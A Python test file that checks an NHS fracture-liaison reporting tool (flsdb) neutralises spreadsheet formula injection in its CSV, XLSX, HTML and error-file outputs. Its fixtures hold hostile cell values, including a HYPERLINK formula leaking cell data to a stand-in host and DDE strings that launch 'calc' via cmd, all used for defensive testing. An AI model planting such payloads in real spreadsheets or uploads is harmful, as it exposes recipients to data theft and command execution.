"""No published or written CSV or XLSX cell can run as a formula, whatever the names in the
services file or the values in an upload; Rich markup in values is shown, not rendered."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

from tests.command import flsdb_here as flsdb
from tests.factory import SERVICES, record, write_records, write_services
from tests.storage.test_concurrency import NUMBERS

HOSTILE = {
    "FLS01": '=HYPERLINK("http://example.invalid/?q="&A1,"Click")',
    "FLS02": "@SUM(1+1)*cmd|' /C calc'!A0",
    "WAL01": "+1+[link=http://example.invalid]x[/link]",
}
REGION = "-2+3+cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _services(path: Path) -> Path:
    rows = [
        {**s, "service_name": HOSTILE[s["service_code"]], "region_name": REGION}
        if s["region_code"] == "QE1"
        else {**s, "service_name": HOSTILE[s["service_code"]]}
        for s in SERVICES
    ]
    return write_services(path, rows)


def _records(path: Path) -> Path:
    codes = ["FLS01", "FLS02", "WAL01"]
    return write_records(
        path,
        [
            record(nhs_number=n, service_code=codes[i % 3], sex="female" if i % 4 else "male")
            for i, n in enumerate(NUMBERS[:240])
        ],
    )


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _check_outputs(folder: Path) -> tuple[int, int]:
    """Every CSV cell that would start a formula is prefixed; no XLSX cell is a formula.
    Returns how many hostile texts were seen in CSV and XLSX (so the check looked at them)."""
    seen_csv = seen_xlsx = 0
    for path in folder.rglob("*.csv"):
        for cell in _csv_cells(path):
            assert not cell.startswith(STARTS), (path.name, cell)
            seen_csv += cell.startswith("'") and cell[1:].startswith(STARTS)
    for path in folder.rglob("*.xlsx"):
        book = openpyxl.load_workbook(path)  # formulas kept as formulas
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value in (*HOSTILE.values(), REGION):
                        seen_xlsx += 1
    return seen_csv, seen_xlsx


def test_hostile_names_are_inert_in_every_output(tmp_path: Path) -> None:
    db = str(tmp_path / "flsdb.db")
    loaded = flsdb("load-services", str(_services(tmp_path / "s.csv")), "--db", db, cwd=tmp_path)
    assert loaded.returncode == 0, loaded.stderr
    imported = flsdb("import", str(_records(tmp_path / "r.csv")), "--db", db, cwd=tmp_path)
    assert imported.returncode == 0, imported.stderr
    out = tmp_path / "out"
    report = flsdb(
        "report", "--period", "2024", "--as-of", "2026-01-31", "--no-pdf", "--jobs", "1",
        "--out", str(out), "--db", db, cwd=tmp_path,
    )  # fmt: skip
    assert report.returncode == 0, report.stderr
    internal = flsdb(
        "report", "--period", "2024", "--as-of", "2026-01-31", "--no-pdf", "--jobs", "1",
        "--no-fls-reports", "--no-region-reports", "--no-suppression", "--out", str(out),
        "--db", db, cwd=tmp_path,
    )  # fmt: skip
    assert internal.returncode == 0, internal.stderr
    for level in ("service", "region"):
        kpis = flsdb(
            "kpis", "--period", "2024", "--as-of", "2026-01-31", "--by", level, "--format",
            "csv", "--out", str(out / f"kpis-{level}.csv"), "--db", db, cwd=tmp_path,
        )  # fmt: skip
        assert kpis.returncode == 0, kpis.stderr
    table = flsdb("kpis", "--period", "2024", "--by", "region", "--db", db, cwd=tmp_path)
    assert table.returncode == 0, table.stderr
    seen_csv, seen_xlsx = _check_outputs(out)
    assert seen_csv >= 6 and seen_xlsx >= 6, (seen_csv, seen_xlsx)
    # The region names written with a leading apostrophe in CSV, as text in XLSX.
    long = _csv_cells(out / "benchmark-region-2024.csv")
    assert f"'{REGION} (QE1)" in long
    # HTML shows the names as text (escaped), never as markup or links.
    html = (out / "national-report-2024.html").read_text()
    assert '<a href="http://example.invalid' not in html
    assert (
        "[link=http://example.invalid]"
        in (out / "internal" / "fls" / "fls-report-WAL01-2024.html").read_text()
    )


def test_error_files_and_templates_are_inert(tmp_path: Path) -> None:
    db = str(tmp_path / "flsdb.db")
    assert (
        flsdb("load-services", str(write_services(tmp_path / "s.csv")), "--db", db, cwd=tmp_path)
    ).returncode == 0
    rows = [record(sex="=1+1"), record(nhs_number=NUMBERS[1], fracture_site="@cmd")]
    errors = tmp_path / "errors.csv"
    result = flsdb(
        "import", str(write_records(tmp_path / "r.csv", rows)), "--db", db, "--errors",
        str(errors), cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 1
    cells = _csv_cells(errors)
    assert "'=1+1" in cells and "'@cmd" in cells
    # The table on the terminal shows the values as they were.
    assert "=1+1" in result.stderr
    templates = tmp_path / "templates"
    assert flsdb("template", "--out", str(templates), cwd=tmp_path).returncode == 0
    _check_outputs(templates)
